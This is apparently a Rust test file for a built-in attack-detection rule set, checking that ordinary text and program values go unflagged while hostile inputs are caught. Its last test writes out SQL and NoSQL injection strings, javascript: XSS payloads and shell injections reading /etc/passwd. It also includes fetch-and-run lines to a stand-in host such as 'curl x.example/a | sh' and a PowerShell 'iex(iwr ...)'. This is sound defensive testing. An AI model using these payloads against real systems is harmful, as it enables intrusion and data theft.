//! Does what people and machines write every day earn nothing, although the words and signs of attacks are in it?

use crate::detect::category::Severity;
use crate::detect::rule_set::RuleSet;
use crate::detect::scan::Scan;
use crate::read::field::Field;
use crate::read::target::Target;

/// The rules that match at more than low severity.
pub(super) fn accused(target: Target, name: &str, value: impl AsRef<[u8]>) -> Vec<String> {
    let rules = RuleSet::builtin();
    let mut scan = Scan::new();
    scan.push(&rules, Field::plain(target, name.as_bytes(), value.as_ref()));
    let found = scan.take();
    let severe = found.iter().filter(|one| one.severity > Severity::Low);
    severe.map(|one| rules.rule(one.rule).id.to_owned()).collect()
}

#[test]
fn texts_of_people() {
    let texts = [
        "Guns 'n' Roses; Fish 'n' Chips",
        "IT: Excel; Bash",
        "PowerShell; Bash; Python",
        "because \"status = 'active' OR status = 'pending'\" isn't how it works",
        "Users can't log in when \"Remember\" and timeout > 30",
        "5\" and width = 3\"",
        "6'1\" and weight = 180",
        "\"yes\" or \"no\" -- your call",
        "either 'A' or 'B' -- see p. 5",
        "I need sleep (8 h) before this",
        "I'd",
        "L's",
        "I'd / he'd",
        "I'd recommend!",
        "'crontab' est mort",
        "~12",
        "JavaScript: The Good Parts",
        "JavaScript: 3 years, PHP: 2 years",
        "cortafuegos; red; seguridad; iptables; netfilter",
        "MATE; dokumen; pelihat; pdf; dvi; ps; xps",
        "First run **`npm`**, then look",
        "We changed the list; delete from it \"Yesterday\" and insert into slot 5 \"Hey\".",
    ];
    for text in texts {
        for (target, name) in [(Target::Query, "q"), (Target::Form, "skills"), (Target::Json, "comment")] {
            assert_eq!(accused(target, name, text), [""; 0], "{target:?}: {text}");
        }
    }
}

#[test]
fn values_of_programs() {
    let diff = "@@ -1,4 +1,5 @@\n deploy:\n-  run: npm ci\n+  run: npm ci && npm cache clean --force\n+  sync: rsync -av dist/ host:/srv/\n+  n: $(ls | wc -l)\n";
    let rows = [
        (Target::Query, "jql", "project in (\"To Do\") AND assignee = currentUser()"),
        (Target::Query, "age[$gt]", "age[$gt]"),
        (Target::Query, "createdAt[$ne]", "createdAt[$ne]"),
        (Target::Query, "filter[name][$regex]", "filter[name][$regex]"),
        (Target::Form, "expression", "EXTRACT(YEAR FROM ordered)"),
        (Target::Query, "where", "1=1"),
        (Target::Query, "where", r#"{"price":{"$gt":5}}"#),
        (Target::Form, "requires_dist", "coverage[toml]; python_version < '3.11' and extra == 'test'"),
        (Target::Json, "path", "$[?(@.name == 'O\\'Brien' || @.age > 5)]"),
        (Target::Json, "value", "//button[contains(text(),'Save') or @type='submit']"),
        (Target::Json, "filter", "[Status]='Open' OR [Qty]>5"),
        (Target::Json, "diff", diff),
        (
            Target::Json,
            "history.created_by",
            "RUN /bin/sh -c apt-get update && apt-get install -y curl && rm -rf /var/lib/x",
        ),
        (Target::Json, "messages.content.input.command", "cd /repo && ls -la src/"),
        (Target::Json, "cmdline", "java -cp /opt/kafka/libs/* kafka.Kafka /etc/kafka/server.properties"),
        (Target::Json, "commits.modified", "config/database.yml"),
        (Target::Json, "nodes.html", "<button onclick=\"toggleMenu()\">"),
        (Target::Json, "nodes.html", "<a href=\"javascript:void(0)\">"),
        (Target::Json, "svg", "<svg><animate attributeName=\"x\" from=\"0\" to=\"5\" dur=\"1s\"/></svg>"),
        (Target::Json, "html", "<object data=\"/doc.pdf\" type=\"application/pdf\"></object>"),
        (Target::Json, "statement", "SET @p1 = 1; INSERT INTO t VALUES (@p1)"),
    ];
    for (target, name, value) in rows {
        assert_eq!(accused(target, name, value), [""; 0], "{target:?} {name}: {value}");
    }
}

/// What stands beside those harmless ones, and is none.
#[test]
fn what_breaks_out_or_does_harm_still_counts() {
    let rows = [
        (Target::Query, "q", "it's' or age > 5 or 'a'='a"),
        (Target::Query, "q", "a'or'b'='b' or pin=code--"),
        (Target::Query, "q", "1\" and pin=code-- "),
        (Target::Query, "q", "7\" or name like \"a%"),
        (Target::Query, "q", "x'like 'y' or pin>code -- -"),
        (Target::Query, "q", "x' like \"y\" or pin>code -- -"),
        (Target::Query, "q", "x\\'='x' or pin>code -- -"),
        (Target::Query, "q", "a 'or pin>code or '"),
        (Target::Query, "q", "x'-- '\nor pin>code and 'a'<'b"),
        (Target::Json, "html", "<p onclick=\"navigation.navigate(name)\">"),
        (Target::Query, "u", "javascript: window.name"),
        (Target::Query, "q", "Java; powershell iex(iwr x.example)"),
        (Target::Query, "q", "x; ping localhost"),
        (Target::Query, "nickname[$ne]", "nickname[$ne]"),
        (Target::Query, "filter[password][$regex]", "filter[password][$regex]"),
        (Target::Query, "username[$gt]", "username[$gt]"),
        (Target::Query, "c", "cc $(id)"),
        (Target::Query, "id", "1=1"),
        (Target::Query, "where", r#"{"username":{"$ne":null}}"#),
        (Target::Query, "id", "1; delete from users u where 1=1"),
        (Target::Query, "id", "sleep(5)"),
        (Target::Query, "id", "1 and (select count(*) from users)>0"),
        (Target::Query, "u", "javascript: alert(1)"),
        (Target::Query, "u", "javascript: \nalert(1)"),
        (Target::Query, "u", "javascript: x\nalert`1`"),
        (Target::Query, "u", "javascript:alert`1`"),
        (Target::Query, "u", "smb://x.example/a"),
        (Target::Query, "c", "c'a't /etc/passwd"),
        (Target::Query, "c", "wh''oami"),
        (Target::Query, "c", "the light works; ping x.example"),
        (Target::Query, "f", "array_map('x', $_GET)"),
        (Target::Query, "f", "config/database.yml"),
        (Target::Json, "messages.content.input.command", "cat /etc/passwd; whoami"),
        (Target::Json, "html", "<button onclick=\"fetch('//x.example')\">"),
        (Target::Json, "svg", "<svg><animate attributeName=\"href\" values=\"javascript:alert(1)\"/></svg>"),
        (
            Target::Json,
            "diff",
            "@@ -1 +1 @@\n;curl x.example/a | sh\n+b\n-c\n-dddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddd\n",
        ),
        (Target::Json, "diff", "@@ -1 +1 @@\n-a\n+b\n ; cat /etc/passwd\n"),
        (Target::Json, "id", "1; SET @p1 = 1"),
    ];
    for (target, name, value) in rows {
        assert_ne!(accused(target, name, value), [""; 0], "{target:?} {name}: {value}");
    }
}
